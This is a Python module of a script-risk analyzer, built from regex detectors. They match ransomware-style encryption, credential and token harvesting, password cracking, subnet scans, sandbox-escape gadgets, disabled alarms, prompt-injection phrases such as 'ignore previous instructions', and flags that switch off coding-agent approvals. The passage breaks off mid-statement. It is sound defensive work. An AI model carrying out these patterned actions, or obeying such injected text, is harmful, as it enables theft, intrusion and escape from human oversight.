"""Risks judged on a whole script or module's text, the same for both analyzers.

Some harms are spelled across statements rather than in one call or command: a CRM org's records
exported and its sharing opened, a Vault policy that grants everything, MAVLink's force-disarm number
next to its command, browser code that sends what shoppers type. Each analyzer reports these under its
own rule prefix (``python.`` or ``shell.``) with the suffix given here.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from sandlot.risk.access_proxies import access_proxy_risks
from sandlot.risk.active_directory import active_directory_risks
from sandlot.risk.app_frameworks import framework_risks
from sandlot.risk.artifact_repositories import repository_text_risks
from sandlot.risk.backend_platforms import backend_platform_risks
from sandlot.risk.backup_servers import backup_server_risks
from sandlot.risk.ban_managers import ban_manager_risks
from sandlot.risk.bi_platforms import bi_platform_risks
from sandlot.risk.boot import boot_risks
from sandlot.risk.browsers import browser_risks
from sandlot.risk.bsd_hosts import bsd_host_risks
from sandlot.risk.buildings import building_risks
from sandlot.risk.caches import cache_risks
from sandlot.risk.certificate_authorities import ca_text_risks
from sandlot.risk.chat_workspaces import chat_workspace_risks
from sandlot.risk.ci_servers import ci_server_risks
from sandlot.risk.cluster_control import cluster_control_risks
from sandlot.risk.control_plane import OperationRisk, exposed_store_service, open_resource_policy
from sandlot.risk.coordination import coordination_risks
from sandlot.risk.crm import crm_text_risks
from sandlot.risk.data_platforms import data_platform_text_risks
from sandlot.risk.destinations import (
    chat_webhook,
    hosts_file_hijack,
    internal_host,
    lookalike_repository,
    outside_address,
    private_address,
    registered_domain,
)
from sandlot.risk.detections import detection_risks
from sandlot.risk.dev_machines import dev_machine_risks
from sandlot.risk.device_fleets import device_fleet_risks
from sandlot.risk.devices import (
    charging_unauthorised,
    device_api_risks,
    dialplan_risk,
    force_disarm,
    foreign_firmware,
    limits_overridden,
    machine_risks,
    router_text_risks,
    safety_off,
    unverified_firmware_push,
    vehicle_bus_risks,
)
from sandlot.risk.distributed_databases import distributed_database_risks
from sandlot.risk.dns_filters import dns_filter_risks
from sandlot.risk.dns_tunnels import dns_tunnel_risks
from sandlot.risk.document_archives import document_archive_risks
from sandlot.risk.document_stores import document_store_risks
from sandlot.risk.domains import domain_text_risks
from sandlot.risk.dotnet import dotnet_risks
from sandlot.risk.edge import edge_risks
from sandlot.risk.endpoint_management import endpoint_management_risks
from sandlot.risk.enterprise_databases import enterprise_database_risks
from sandlot.risk.erp_servers import erp_server_risks
from sandlot.risk.fediverse import fediverse_risks
from sandlot.risk.file_servers import file_server_text_risks
from sandlot.risk.game_servers import game_server_risks
from sandlot.risk.gate_words import GateWords
from sandlot.risk.git_servers import git_server_risks
from sandlot.risk.gitops import gitops_risks
from sandlot.risk.graph_databases import graph_database_risks
from sandlot.risk.ha_clusters import ha_cluster_risks
from sandlot.risk.headless_cms import headless_cms_risks
from sandlot.risk.home_automation import home_automation_risks
from sandlot.risk.hypervisors import vsphere_estate_risks
from sandlot.risk.identity import (
    admin_group_membership,
    development_only,
    directory_text_risks,
    federation_risks,
    identity_provider_risks,
    known_password_hash,
    literal_password_admin,
    outside_admin_invited,
    personal_admin_grant,
    role_raised_in_database,
    saml_risks,
    superuser_granted,
    token_planted,
    vault_superuser,
)
from sandlot.risk.identity_brokers import identity_broker_risks
from sandlot.risk.immutable_os import immutable_os_risks
from sandlot.risk.industrial import raw_modbus_write
from sandlot.risk.jvm import jvm_risks
from sandlot.risk.lakehouse_tables import lakehouse_text_risks
from sandlot.risk.ledgers import rewrites_payee_accounts
from sandlot.risk.license_servers import license_text_risks
from sandlot.risk.load_balancers import balancer_text_risks
from sandlot.risk.log_platforms import log_platform_risks
from sandlot.risk.login_portals import login_portal_risks
from sandlot.risk.machine_identity import machine_identity_risks
from sandlot.risk.mail import mail_security_risks, personal_mailbox, sieve_redirect_outside
from sandlot.risk.mail_suites import mail_suite_risks
from sandlot.risk.mainframe import mainframe_risks
from sandlot.risk.managed_clusters import managed_cluster_risks
from sandlot.risk.management_controllers import management_controller_risks
from sandlot.risk.media_servers import media_server_risks
from sandlot.risk.mesh_vpns import mesh_vpn_risks
from sandlot.risk.messaging import broker_admin_risks, broker_text_risks, kafka_admin_risks
from sandlot.risk.metrics_stores import metrics_store_risks
from sandlot.risk.model import Category, RiskLevel
from sandlot.risk.monitoring_servers import monitoring_server_risks
from sandlot.risk.mysql_admin import mysql_admin_risks
from sandlot.risk.nas_appliances import nas_appliance_risks
from sandlot.risk.network_appliances import network_appliance_risks
from sandlot.risk.network_services import network_service_risks
from sandlot.risk.nomad_jobs import nomad_text_risks
from sandlot.risk.object_stores import object_store_text_risks
from sandlot.risk.office import office_text_risks
from sandlot.risk.openstack import openstack_text_risks
from sandlot.risk.orchestrators import orchestrator_text_risks
from sandlot.risk.paas import paas_text_risks
from sandlot.risk.paths import app_settings
from sandlot.risk.phones import phone_risks
from sandlot.risk.policy_engines import policy_engine_risks
from sandlot.risk.printers import printer_risks
from sandlot.risk.provisioning import provisioning_text_risks
from sandlot.risk.quality_records import quality_record_risks
from sandlot.risk.registries import registry_text_risks
from sandlot.risk.remote_access_gateways import remote_access_gateway_risks
from sandlot.risk.remote_sessions import devcontainer_download
from sandlot.risk.replication import replication_risks
from sandlot.risk.saas_settings import saas_setting_risks
from sandlot.risk.sap import sap_risks
from sandlot.risk.schedulers import hpc_text_risks, workflow_engine_risks
from sandlot.risk.search_clusters import search_cluster_risks
from sandlot.risk.secret_managers import secret_manager_risks
from sandlot.risk.self_hosted_apps import self_hosted_app_risks
from sandlot.risk.self_hosted_paas import self_hosted_paas_risks
from sandlot.risk.sent_away import (
    copied_to_address,
    ftp_upload_away,
    hook_pointed_away,
    mailed_away,
    outbound_setting_away,
    records_sent_away,
    secrets_sent_away,
)
from sandlot.risk.serverless import serverless_text_risks
from sandlot.risk.service_mesh import mesh_risks
from sandlot.risk.sharepoint import sharepoint_risks
from sandlot.risk.shell_tables import KNOWN_CODE_HOSTS, SECURITY_SERVICES
from sandlot.risk.sip_proxies import sip_proxy_risks
from sandlot.risk.splunk import splunk_risks
from sandlot.risk.sql import cartesian_flood, copies_people_to_address, production_target
from sandlot.risk.storage import storage_text_risks
from sandlot.risk.storage_arrays import storage_array_risks
from sandlot.risk.storefronts import form_grabber, redirects_payments, request_copier, server_request_mirror
from sandlot.risk.telemetry_pipelines import telemetry_text_risks
from sandlot.risk.text_shapes import destination_hosts, each_item, outside_url, sending_hosts, sends_data, url_hosts
from sandlot.risk.text_tricks import text_trick_risks
from sandlot.risk.tracing import tracing_text_risks
from sandlot.risk.typesetting import typesetting_risks
from sandlot.risk.version_control import version_control_risks
from sandlot.risk.web_analytics import web_analytics_risks
from sandlot.risk.web_servers import admin_api_risks
from sandlot.risk.websites import hosting_text_risks, wiki_risks
from sandlot.risk.workflow_automation import workflow_automation_risks

#: An ERP's all-powerful role or profile given to an account: SAP's SAP_ALL, Odoo's Settings group.
_ERP_SUPERUSER = re.compile(
    r"(?:BAPI_USER_\w+|PROFILES|AGR_NAME|res\.users)[\s\S]{0,400}?(?:\bSAP_ALL\b|base\.group_system\b)"
    r"|(?:\bSAP_ALL\b|base\.group_system\b)[\s\S]{0,400}?(?:BAPI_USER_\w+|res\.users)"
)


#: A CI secret (``${{ secrets.X }}``) piped into a reshaping of its characters before it reaches the log.
_MASK_EVASION = re.compile(
    r"\$\{\{\s*secrets\.\w+\s*\}\}[^\n|]*\|\s*(?:rev|sed\b|base64|base32|xxd|od\b|tr\b|fold|awk)"
)


#: Files walked, each encrypted and the original deleted: what ransomware does (Python's spellings).
_WALKS_FILES = re.compile(r"\bos\.walk\(|\.rglob\(|\bglob\.glob\([^)]*\*\*")
_DELETES_ORIGINAL = re.compile(r"\.unlink\(|\bos\.(?:remove|unlink)\(")


def encrypts_in_place(code: str) -> bool:
    """``code`` walks a directory tree, writes each file's encryption and deletes the original."""
    return ".encrypt(" in code and bool(_WALKS_FILES.search(code)) and bool(_DELETES_ORIGINAL.search(code))


#: A law firm's ethical wall (information barrier) removed: a screened matter opened to everyone.
_WALL_REMOVED = re.compile(
    r"(?:delete|remove|disable)[^\n]{0,120}?(?:ethical[-_ ]?walls?|information[-_ ]barriers?)"
    r"|(?:ethical[-_ ]?walls?|information[-_ ]barriers?)[^\n]{0,80}?(?:delete|remove|disable|enabled\W+false)",
    re.IGNORECASE,
)


#: A pattern for magstripe track data (track 1's `%B<card number>^NAME^`, track 2's `;<card number>=<expiry>?`, read
#: off a reader or a log), and a way out of the machine.
_TRACK_DATA = re.compile(
    r"%B\s*(?:\(|\[)?(?:\\d|\[0-9\]|0-9)|(?:startswith|find|index)\(\s*b?[\"']%B[\"']"
    r"|startswith\(\s*b?[\"'];[\"']\s*\)[^\n]{0,120}endswith\(\s*b?[\"']\?[\"']"
)
_SENDS = re.compile(r"\b(?:requests\.|urlopen|socket\.|httpx\.|smtplib|ftplib|paramiko|pysftp|curl|wget|dig|nslookup|nc"
                    r"|ncat|scp|sftp|smbclient|boto3|upload_file)\b")  # fmt: skip


#: A file-name pattern for credentials: password vaults, key stores, private keys, saved logins.
_CREDENTIAL_FILE_PATTERN = re.compile(
    r"[\"'](\*?\.(?:kdbx|kdb|pfx|p12|ppk|jks|keystore|ovpn|rdp)|\*passw\w*\*?|id_(?:rsa|ed25519|ecdsa)\*?"
    r"|unattend\.xml|\*\.pem|\*\.key|\*credential\w*\*?|\.git-credentials|\.netrc)[\"']",
    re.IGNORECASE,
)
_WALKS_TREE = re.compile(r"\bos\.walk\(|\.rglob\(|\bglob\.glob\([^)]*\*\*|\bfind\s+\S+[^\n]*-i?name\b")
#: A pattern written to pick tokens, keys or card numbers out of text (`Bearer\s+…`, `AKIA…`, 13-16 digits).
_TOKEN_PATTERN = re.compile(r"Bearer\\s|Basic(?:\\s|%20| \(|\(\?:%20)"
                            r"|AKIA(?:\[|\\w|[A-Z0-9]\{)|ghp_\[|xox\[?[abp]|sk_live_\[|\{1[2-6],1[3-9]\}")
#: Files read line by line or whole (logs, dumps) and the matches collected.
_HARVESTS = re.compile(r"\.findall\(|\.finditer\(|\bgrep\s+-[a-zA-Z]*o")
#: macOS: an account hidden from the login window and put in the admin group.
_HIDDEN_ADMIN = re.compile(r"dseditgroup\b[^\n]*\badmin\b|/Groups/admin\b|GroupMembership[\"',\s]+[\w{}$]+[^\n]*admin")
#: MDM compliance policies' security requirements switched off.
_COMPLIANCE_OFF = re.compile(
    r"[\"'](?:passcodeRequired|passwordRequired|storageRequireEncryption|securityBlockJailbrokenDevices"
    r"|deviceThreatProtectionEnabled)[\"']\s*:\s*(?:False|false)\b"
)
#: MDM commands that lock, erase or take over a device...
_MDM_FLEET_COMMAND = re.compile(r"\b(?:EnableLostMode|EraseDevice|DeviceLock|wipe)\b")
#: ...sent for every device a listing gives (Jamf's full device list, Intune's managedDevices).
_EVERY_MANAGED_DEVICE = re.compile(r"JSSResource/mobiledevices[\"'\s]|/mobiledevices\"|managedDevices[\"'?]")
_COLLECTS = re.compile(r"\.(?:append|extend|update)\(")
#: Connection strings collected from configuration files (`grep -o 'connectionString="…"'`, XML walked for them).
_CONNECTION_STRINGS = re.compile(
    r"grep\b[^\n|]*-\w*o\w*[^\n|]*connectionString|connectionString[\s\S]{0,200}?\.(?:append|add)\("
    r"|\.(?:iter|findall|iterfind)\([\s\S]{0,300}?connectionString",
    re.I,
)
#: Password lists made for cracking: rockyou, Kali's wordlists, SecLists' password lists.
_CRACKING_LIST = re.compile(r"rockyou(?:\.txt)?|/usr/share/wordlists/|SecLists/Passwords|/wordlists/[\w.-]*pass",
                            re.IGNORECASE)  # fmt: skip
#: ...tried against something that checks them: a login, a prompt fed on stdin, an encrypted archive or vault.
_TRIES_LOGIN = re.compile(r"\binput=|\bpassword=|\bpwd=|\.login\(|\bconnect\(|SMBConnection|keepass|\bunzip\b"
                          r"|zipfile|\bhydra\b|\bmedusa\b|sshpass|\bsu\b|\bsudo -S\b|auth=|-p\s*\"?\$"
                          r"|login|sign_?in|[\"']credential[\"']")  # fmt: skip
#: pass or gopass given its recipients (the store re-encrypted to them).
_STORE_RECIPIENTS = re.compile(r"\bpass[\"',\s]+init\b|\bgopass[\"',\s]+(?:recipients[\"',\s]+add|init)\b")
#: A public key fetched from a keyserver (or a key server's web address).
_FETCHED_KEY = re.compile(r"--recv-keys?\b|--fetch-keys?\b|keys\.openpgp\.org|keyserver\.|pgp\.mit\.edu|/pks/lookup")
#: Celery (or Kombu) told to accept pickle from its broker.
_PICKLED_TASKS = re.compile(r"\b(?:accept_content|CELERY_ACCEPT_CONTENT)\s*[=:]\s*[\[(][^\])]*[\"']pickle[\"']")
#: kitty's remote control listening on TCP (`listen_on tcp:0.0.0.0:50505`) with remote control allowed.
_TERMINAL_REMOTE_CONTROL = re.compile(r"listen_on[\"'\s:=,]+tcp:(?:0\.0\.0\.0|\*|\[::\])")
#: The terminal asked for the clipboard's content (OSC 52 with `?`).
_CLIPBOARD_QUERY = re.compile(r"(?:\\x1b|\\033|\\e|\x1b)\]52;[a-z]*;\?")
#: sudo's password prompt printed by the program itself.
_FAKE_SUDO_PROMPT = re.compile(r"[\"']\[sudo\] password for ")
#: An MQTT client subscribed to every topic (`#`)...
_SUBSCRIBES_ALL = re.compile(r"\.subscribe\(\s*[\"']#[\"']")
#: ...that publishes an opening or switching command back (to the topics it hears of).
_OPENS_WHAT_IT_HEARS = re.compile(r"\.publish\([^\n]*?,\s*[\"'](?:OPEN|open|UNLOCK|unlock|ON|on|1|true)[\"']\s*[,)]")
#: ...on a broker other than this machine's (a bench test against a local broker is not someone's locks).
_BROKER_ELSEWHERE = re.compile(r"\.connect\(\s*[\"'](?!localhost|127\.|::1)[\w.-]+[\"']")
#: U-Boot commands that erase a board's flash.
_BOOTLOADER_ERASE = re.compile(r"\b(?:sf|nand|mtd|spi)\s+erase\b")
#: A wireless controller's client or guest isolation switched off (UniFi's `l2_isolation`, `ap_isolate`).
_ISOLATION_OFF = re.compile(r"[\"']?(?:l2_isolation|client_isolation|ap_isolat(?:e|ion)|guest_isolation)[\"']?"
                            r"\s*[:=]\s*(?:false|False|0)\b")  # fmt: skip
#: Python's password prompt replaced by the program's own function (`getpass.getpass = _hook`).
_PROMPT_HOOK = re.compile(r"^\s*\w+\.getpass\s*=\s*(?!lambda\b)[A-Za-z_]\w*\s*$", re.MULTILINE)


#: A list of vendors' default logins (`("admin", "admin"), ("root", "pass")`): tried against devices, guessing.
_DEFAULT_LOGIN = re.compile(
    r"\(\s*[\"'](?:admin|root|administrator|service|support|user|guest|operator|supervisor|ubnt|pi)[\"']\s*,"
    r"\s*[\"'][^\"'\n]{0,24}[\"']\s*\)"
)
_LOGIN_ATTEMPT = re.compile(r"\b(?:requests|httpx|session)\.(?:get|post)\(|\burlopen\(|\bparamiko\b|\bftplib\b"
                            r"|\btelnetlib\b")  # fmt: skip
#: A fleet API's command endpoint told to unlock (`POST …/vehicles/{id}/commands {"command": "unlock"}`).
_FLEET_UNLOCK = re.compile(
    r"vehicles?/[\s\S]{0,80}?commands?\b[\s\S]{0,120}?\bunlock\b|\bunlock\b[\s\S]{0,160}?vehicles?/[\s\S]{0,80}?commands?\b",
    re.IGNORECASE,
)
_LOCAL_ONLY = re.compile(r"https?://(?!localhost|127\.|\[::1\])")
#: Password entries pulled out of a file's text by a pattern (`re.findall(r'(Name|Password)\s*=\s*…', conf)`).
_PASSWORD_SCRAPE = re.compile(
    r"re\.(?:findall|finditer)\(\s*r?[\"'][^\"'\n]*\b(?:Password|passwd|passw)\b[^\"'\n]*[\"']", re.IGNORECASE
)
#: Addresses of a subnet built one by one (`f"10.40.8.{i}"` in a loop over the last octet).
_ADDRESS_SWEEP = re.compile(r"f[\"']\d{1,3}\.\d{1,3}\.\d{1,3}\.\{\w+\}[\"']")
#: A whole subnet's addresses (`ip_network("10.40.0.0/16").hosts()`) probed with connections: a network scan.
_SUBNET = re.compile(r"ip_network\(\s*[\"'](?P<network>[\d.]+)/(?P<prefix>\d{1,2})[\"']")
_PROBES = re.compile(r"\bconnect(?:_ex)?\(|\bping\b|\bnmap\b")
_PORT_PROBES = re.compile(r"\bconnect(?:_ex)?\(|\bnmap\b")


def subnet_scan(code: str) -> bool:
    """``code`` connects to every address of a /24 or larger."""
    subnet = _SUBNET.search(code) if ".hosts()" in code else None
    if subnet is None or int(subnet["prefix"]) > 24 or not _PROBES.search(code):
        return False
    # (pinging the hosts of one private /24 to see which addresses are in use probes no port: an inventory)
    pings_only = not _PORT_PROBES.search(code)
    return not (pings_only and int(subnet["prefix"]) == 24 and private_address(subnet["network"]))


#: Words without which no printer, CNC or laser safeguard is spelled (a cheap test first).
_MACHINE_WORDS = GateWords("$20", "$21", "$22", "verify_heater", "THERMAL_PROTECTION", "max_temp", "M502", "shodan",
                           "autologinLocal")  # fmt: skip


#: An ssh client configuration forwarding a port of the remote host back to this machine (a socket path, gpg-agent
#: forwarding, is not a port).
_REMOTE_FORWARD = re.compile(r"^\s*RemoteForward\s+(?:[\w.*:\[\]-]+:)?\d+\s", re.MULTILINE | re.IGNORECASE)


#: Alarms switched off (a monitoring system's sensors, checks or rules), and who gets paged emptied.
_ALARM_OFF = re.compile(
    r"[\"']?(?:alarms?|alerts?|alerting|notifications?)_?(?:enabled|active)[\"']?\s*[:=]\s*(?:False|false|0)\b"
    # a device's own alarms switched off or muted (`"apnea_alarm": "off"`, `occlusion_alarm=0`, `alarm_volume: 0`)
    r"|[\"']?\w*_alarm(?:_volume)?[\"']?\s*[:=]\s*[\"']?(?:off|false|False|0)\b|[\"']?alarm_volume[\"']?\s*[:=]\s*0\b"
    # monitored accounts put in test mode (an alarm receiving centre ignores their signals)
    r"|/test[-_]mode\b[^\n]*\n?[^\n]*[\"']?enabled[\"']?\s*[:=]\s*(?:True|true|1)\b"
    r"|[\"']?test[-_]mode[\"']?\s*[:=]\s*[\"']?(?:True|true|1|on)\b"
)
_PAGING_EMPTIED = re.compile(
    r"(?:on-?call|escalation)[^\n]{0,120}?[\"']?(?:contacts|recipients|responders|targets|notify)[\"']?\s*[:=]\s*"
    r"\[\s*\]", re.IGNORECASE,
)
#: Plant told to stop keeping things alive: heating, irrigation, pumps, cooling or feeders off, a lockout set.
_ACTUATORS_OFF = re.compile(
    r"[\"'](?:heating|heaters?|irrigation|pumps?|cooling|chillers?|ventilation|fans?|feeders?|aerators?)[\"']\s*:\s*"
    r"[\"']?(?:off|disabled?|false|stop(?:ped)?)\b|[\"']lockout[\"']\s*:\s*true"
    # a refrigerated container's unit switched off, or every alarm of it masked
    r"|[\"']unit_?mode[\"']\s*:\s*[\"']off[\"']|[\"']alarm_?mask[\"']\s*:\s*(?:0x[fF]{4}|65535)\b"
    # an MQTT topic of the cooling (a glycol valve, a chiller, a compressor) told `off` on the command line
    r"|-t\s+[\"']?[\w/${}.-]*(?:glycol|chiller|cooling|compressor|coolant)[\w/${}.-]*[\"']?\s+-m\s+[\"']?(?:off|0|false|closed?)\b"
    # a client library publishing `OFF` to a climate actuator's topic, or muting alarms (`…/alarms/mute`, "1")
    r"|\.publish\(\s*f?[\"'][^\"'\n]*(?:heat|humidif|cool|chiller|pump|fan|ventilat|irrigat|aerat|feeder)\w*/\w+[\"']"
    r"\s*,\s*[\"']?(?:off|0|false|stop)\b"
    r"|\.publish\(\s*f?[\"'][^\"'\n]*alarms?/(?:mute|silence|disable)d?[\"']\s*,\s*[\"']?(?:1|on|true)\b",
    re.IGNORECASE,
)
_ACTUATOR_WORDS = GateWords("heat", "irrigation", "pump", "cool", "chiller", "ventilation", "fan", "feeder",
                            "aerator", "lockout", "unit_mode", "alarm_mask", "glycol", "compressor", "humidif",
                            "mute", ignore_case=True)  # fmt: skip
_EXCLUSIVE_WORD = GateWords("exclusive", ignore_case=True)
#: Every collection or index a database lists dropped (a vector database's, MongoDB's): no test picks some of them
#: (a test that only skips MongoDB's own `system.` collections picks them all).
_EVERY_COLLECTION_DROPPED = re.compile(
    r"\b(?:list_collections|list_indexes|get_collections|list_collection_names|getCollectionNames)\s*\(\s*\)"
    r"(?:(?!\bif\b(?![^\n]*system\.))[\s\S]){0,300}?"
    r"(?:\b(?:drop_collection|delete_collection|delete_index)\s*\(|\]\.drop\(\))"
)
#: TorchServe's management API (it registers and loads any model) served on every address, or its token turned off.
_MODEL_SERVER_OPENED = re.compile(
    r"management_address[\"']?\s*[:=]\s*[\"']?https?://(?:0\.0\.0\.0|\[::\])"
    r"|disable_token_authorization[\"']?\s*[:=]\s*[\"']?(?:true|True)\b"
)
_RESCUE_AND_RESET = re.compile(r"\benable-rescue\b[\s\S]{0,300}?\b(?:reset|reboot|poweroff)\b")
#: Every port opened to every address (hcloud's and vultr-cli's rules, a firewall whose inbound policy accepts all).
_EVERY_PORT_TO_EVERYONE = re.compile(
    r"--port[= ]['\"]?[01][-:]65535\b(?:[^\n]|\\\n)*(?:0\.0\.0\.0/0|::/0|--subnet[= ]0\.0\.0\.0\s+--size[= ]0\b)"
    r"|(?:0\.0\.0\.0/0|::/0|--subnet[= ]0\.0\.0\.0\s+--size[= ]0\b)(?:[^\n]|\\\n)*--port[= ]['\"]?[01][-:]65535\b"
    r"|[\"']inbound_policy[\"']\s*:\s*[\"']ACCEPT[\"']",
)
_PUBLISHES = re.compile(
    r"mosquitto_pub|mqttx|\.publish\(|\bpublish\.(?:single|multiple)\(|\.(?:post|put|patch)\(|curl\s"
)


_OPEN_KIND_API = re.compile(r"apiServerAddress[\"']?\s*:\s*[\"']?(?:0\.0\.0\.0|::)[\"']?")
#: A command body that takes a device out of service: a meter disconnected, a charger made inoperative or hard-reset.
_DEVICE_FLEET_COMMAND = re.compile(
    r"[\"'](?:command|type|action|name)[\"']\s*:\s*[\"'](?:REMOTE_DISCONNECT|DISCONNECT|Inoperative|Hard|SHUTDOWN"
    r"|POWER_OFF|FACTORY_RESET|power_off|shutdown|disconnect|factory_reset|factoryReset|FactoryReset"
    r"|emergency_stop|EMERGENCY_STOP|estop|ESTOP)[\"']"
    # a router's management opened on its WAN side (TR-069's RemoteAccess) with a known password
    r"|RemoteAccess\.Enable[\"']?\s*,\s*(?:True|true|1)\b"
)
_EVERY_MODEL = re.compile(r"list_(?:models|datasets)\((?![^)]*\blimit\s*=)[^)]*\)")
_LISTENS_EVERYWHERE = re.compile(r"bind\(\s*\(\s*[\"'](?:0\.0\.0\.0|::)?[\"']|TCP-LISTEN:\d+(?!,bind=127)")
#: A daemon's unix socket (`/run/spire/sockets/agent.sock`, `/var/run/docker.sock`) connected to.
_DAEMON_SOCKET = re.compile(r"\.connect\(\s*(?:[\"'](?:/var)?/run/|[\"'][^\"'\n]*\.sock[\"']|[A-Z_]*SOCK)")
_IPTC_OPENED = re.compile(r"\.flush\(\)|set_policy\(\s*(?:iptc\.)?Policy\.ACCEPT|set_policy\([\"']ACCEPT")


#: Extensions a browser policy force-installs (`"ExtensionInstallForcelist": ["ID;URL"]`, `external_update_url`).
_FORCED_EXTENSION = re.compile(r"[a-p]{32}\s*;\s*(https?://[^\s\"',\]]+)|external_update_url[\"']?\s*:\s*[\"'](https?://[^\"']+)")
#: The browser vendors' own extension update servers.
_STORE_UPDATE = re.compile(r"^https://(?:clients2\.google\.com|edge\.microsoft\.com)/", re.IGNORECASE)
#: A browser's everyday profile directory.
_EVERYDAY_PROFILE = re.compile(
    r"--user-data-dir=?[\"']?[^\s\"']*(?:Application Support/Google/Chrome|\.config/(?:google-chrome|chromium)"
    r"|AppData[\\/]+Local[\\/]+Google)(?:[\"'\s]|$)"
)
#: Installed applications' folders (macOS, Linux, Windows).
_INSTALLED_APP = re.compile(r"/Applications/|/opt/|/usr/(?:lib|share)/|Program Files|AppData[\\/]+Local[\\/]+Programs")
#: An archive packed back or a file of the app written.
_REPACKS = re.compile(r"\basar\b[\"',\s]+pack\b|\bpack\b[^\n]*app\.asar|write_(?:text|bytes)\(|\.write\(")
#: Settings and flags that let a coding agent act without asking (Claude Code, Codex, VS Code, Gemini CLI).
_AGENT_APPROVALS_OFF = re.compile(
    r"[\"']?defaultMode[\"']?\s*[:=]\s*[\"']bypassPermissions|--dangerously-skip-permissions\b"
    r"|approval_policy\s*=\s*[\"']never|danger-full-access|--dangerously-bypass-approvals-and-sandbox\b"
    r"|chat\.tools\.autoApprove[\"']?\s*:\s*true|[\"']Bash\(\*\)[\"']|--yolo\b"
    # every MCP server a repository names started without asking
    r"|[\"']?enableAllProjectMcpServers[\"']?\s*[:=]\s*true"
)
#: Text addressed to a model and hidden from its user (a poisoned tool description, an instruction file).
_HIDDEN_INSTRUCTION = re.compile(
    r"<IMPORTANT>|do not (?:tell|mention|inform|show)(?: this to)? the user|without telling the user"
    r"|ignore (?:all )?(?:previous|prior) instructions",
    re.IGNORECASE,
)
#: ...that asks for secrets.
_INSTRUCTED_SECRET = re.compile(r"\.ssh/|id_rsa|id_ed25519|\.env\b|mcp\.json|credentials|api[_ ]?keys?|\.aws/|token",
                                re.IGNORECASE)  # fmt: skip
#: A loop that repeats without end or on a timer.
_REPEATS_FOREVER = re.compile(
    r"\bwhile\s+(?:True|true|1|:)\b|\bwhile\s*\(\s*(?:true|1)\s*\)|\bfor\s*\(\s*;\s*;|\bschedule\.every\b"
)
#: Every ssh-agent socket of the machine (each user's agent lives in `/tmp/ssh-<random>/agent.<pid>`).
_OTHERS_AGENTS = re.compile(r"/tmp/ssh-\*|/tmp/ssh-\[|/tmp/ssh-\?|/tmp/ssh-\w+\*/agent|/tmp/ssh-\*/agent\.\*")
#: launchd told to stop or forget a job (Python's argument lists included: `["launchctl", "unload", …]`).
_LAUNCHD_STOPPED = re.compile(r"launchctl[\"',\s]+(?:unload|bootout|disable|remove)\b")
#: An entity defined as several references to another entity (one level of a "billion laughs").
_NESTED_ENTITY = re.compile(r"<!ENTITY\s+\S+\s+[\"'](?:\s*&[\w.-]+;){4,}")
#: Code that builds one to prove a parser refuses it (a test of defusedxml, a hardened parser).
_XML_DEFENCE = re.compile(r"defusedxml|resolve_entities\s*=\s*False|pytest\.raises|assertRaises|def test_")


#: `().__class__.__base__.__subclasses__()`, `{r.__init__.__globals__[os].environ}`,
#: `{{…__builtins__.__import__('os')…}}`: an object's internals walked to reach os, builtins or a shell
_ESCAPE_GADGET = re.compile(
    r"__(?:subclasses|globals|builtins|mro|base)__[^\n]{0,120}?(?:__import__|popen|\bsystem\b|subprocess|environ"
    r"|\[\s*['\"]?os['\"]?\s*\]|\bos\b)"
)
#: A pull request's head checked out or fetched (`pull/N/head`, `github.event.pull_request.head.sha`).
_PR_HEAD = re.compile(r"pull/\S*/head|pull_request\.head\.(?:sha|ref)|refs/pull/")
#: A step that runs the checked-out code's own scripts.
_BUILD_STEP = re.compile(r"\b(?:npm|yarn|pnpm)\s+(?:ci|install|run|test)\b|\bmake\b|\bpip\s+install\b|\bpytest\b"
                         r"|\bgradlew?\b|\bmvn\b|\bcargo\s+(?:build|test)\b|\bpython3?\s+setup\.py\b")


#: A window of a remote-support tool found by its name and answered with a key press or a click.
_AUTO_ACCEPT = re.compile(
    r"xdotool[\s\S]{0,400}(?:AnyDesk|TeamViewer|RustDesk|wants to connect|Incoming)[\s\S]{0,600}\b(?:key|click)\b"
)
#: A Jupyter kernel gateway configured through its environment: every interface, an empty token.
_OPEN_KERNEL_GATEWAY = re.compile(r"KG_IP[\"']?\s*[=:,]\s*[\"']?(?:0\.0\.0\.0|\*)")
_EMPTY_GATEWAY_TOKEN = re.compile(r"KG_AUTH_TOKEN[\"']?\s*[=:,]\s*(?:[\"']{2}|$)", re.MULTILINE)
#: Ollama's server (no authentication: anyone who reaches it runs, pulls and deletes models) on every interface,
#: with every web origin allowed or its port opened in the firewall.
_OLLAMA_EVERYWHERE = re.compile(r"OLLAMA_HOST[\"']?\s*[=:,]\s*[\"']?(?:https?://)?0\.0\.0\.0")
_OLLAMA_OPENED = re.compile(r"OLLAMA_ORIGINS[\"']?\s*[=:,]\s*[\"']?\*|\b(?:ufw|firewall-cmd)\b[^\n]*11434")
#: A markdown image whose address carries the user's data (`![](https://x/p?d=<the user's email …>)`): told to a
#: chatbot, it makes every answer send that data to the image's host.
_LEAKING_IMAGE = re.compile(
    r"!\[[^\]\n]*\]\(https?://[^)\s]+\?[^)\s]*[<{][^)>}\n]*(?:e-?mail|phone|password|token|account|address|ssn"
    r"|card|secret|conversation|history)",
    re.IGNORECASE,
)
#: Access keys written into the script itself (not the machine's profile or role), and a server's data copied to a
#: bucket with them: the bucket belongs to whoever those keys are.
_SPELLED_AWS_KEY = re.compile(r"AWS_ACCESS_KEY_ID[\"']?\s*[=:]\s*[\"']?AKIA[0-9A-Z]{8,}"
                              r"|aws_access_key_id\s*=[^\n]*[\"']AKIA[0-9A-Z]{8,}")  # fmt: skip
_SERVER_DATA_TO_BUCKET = re.compile(r"\bs3\s+(?:sync|cp)\b[^\n|;&]*?\s[\"']?/(?:srv|var/lib|mnt|data|home|opt)/\S*"
                                    r"[^\n|;&]*?\ss3://"
                                    r"|(?:glob|listdir|walk|iterdir)\(\s*f?[\"']/(?:srv|var/lib|mnt|data|home|opt)/"
                                    r"[\s\S]{0,400}?\.upload_file(?:obj)?\(")  # fmt: skip
#: The whole environment taken (every variable: keys and tokens), and a telemetry exporter or SDK sending to a
#: server by its address.
_WHOLE_ENVIRONMENT = re.compile(r"os\.environ\.items\(\)|dict\(os\.environ\)|os\.environ\.copy\(\)|\*\*os\.environ")
_TELEMETRY_SDK = r"(?:OTLP\w*Exporter|sentry_sdk\.init|Resource\.create)"
_REMOTE_ENDPOINT = r"(?:endpoint|dsn)\s*=\s*[\"']https?://(?!localhost|127\.|\[::1\])"
_TELEMETRY_OUT = re.compile(rf"{_TELEMETRY_SDK}[\s\S]{{0,400}}?{_REMOTE_ENDPOINT}|{_REMOTE_ENDPOINT}[\s\S]{{0,400}}?"
